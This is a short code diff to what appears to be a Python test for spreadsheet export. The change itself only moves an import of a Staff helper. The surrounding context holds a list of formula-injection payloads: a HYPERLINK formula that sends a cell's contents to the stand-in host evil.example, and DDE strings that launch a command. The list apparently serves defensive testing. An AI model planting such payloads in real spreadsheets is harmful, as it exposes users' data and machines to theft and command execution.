@@ -8,8 +8,8 @@ import pathlib
 from openpyxl import load_workbook
 
 from engine import sheets
+from tests.support.information_requests import Staff
 from tests.support.workplan import add_staff
-from tests.support.ysq import Staff
 
 ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
